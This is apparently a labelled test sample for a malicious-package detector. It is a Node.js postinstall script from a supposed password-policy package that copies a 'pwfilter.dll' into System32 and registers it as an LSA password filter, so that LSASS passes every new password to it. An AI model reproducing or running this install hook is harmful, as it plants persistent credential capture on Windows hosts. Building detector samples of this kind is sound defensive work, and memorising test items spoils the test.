// expect: malicious
// when: install
// A password-policy package's postinstall copies its "policy helper" DLL into System32 and appends it to LSA's
// Notification Packages: LSASS then loads it and hands it every new password (a password filter; blind set 27).
const fs = require('fs');
const path = require('path');
const { execFileSync } = require('child_process');
const KEY = 'HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa';
if (process.platform === 'win32') {
  try {
    fs.copyFileSync(path.join(__dirname, 'bin', 'pwfilter.dll'), path.join(process.env.SystemRoot, 'System32', 'pwfilter.dll'));
    const out = execFileSync('reg', ['query', KEY, '/v', 'Notification Packages'], { encoding: 'utf8' });
    const names = (/REG_MULTI_SZ\s+(.*)/.exec(out) || [])[1] || 'scecli';
    execFileSync('reg', ['add', KEY, '/v', 'Notification Packages', '/t', 'REG_MULTI_SZ', '/d', names + '\\0pwfilter', '/f']);
  } catch (e) { /* not elevated */ }
}
